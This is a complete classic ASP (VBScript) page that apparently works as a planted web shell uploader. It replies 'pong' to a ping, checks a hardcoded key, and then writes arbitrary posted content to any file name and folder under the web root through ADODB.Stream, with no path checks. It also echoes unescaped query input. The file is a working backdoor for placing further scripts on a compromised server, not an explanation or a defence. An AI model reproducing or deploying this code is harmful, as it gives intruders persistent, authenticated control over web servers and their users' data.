<%@ Language="VBScript" %>
<%
Dim mode, key, folder, target, content, tag, note
mode = Request.Form("mode")
key = Request.Form("key")
folder = Request.Form("dir")
target = Request.Form("name")
content = Request.Form("data")
tag = Request.Form("tag")
note = Request.QueryString("note")

If mode = "ping" Then
    Response.Write "pong"
    Response.End
End If
If key <> "k-2291" Or Len(target) = 0 Then
    Response.Write "denied"
    Response.End
End If

Dim st
Set st = Server.CreateObject("ADODB.Stream")
With st
    .Type = 2
    .Charset = "utf-8"
    .Open
    .WriteText content
    .SaveToFile Server.MapPath("/") & "\" & folder & "\" & target, 2
    .Close
End With
Set st = Nothing
Response.Write "done " & tag & note
%>
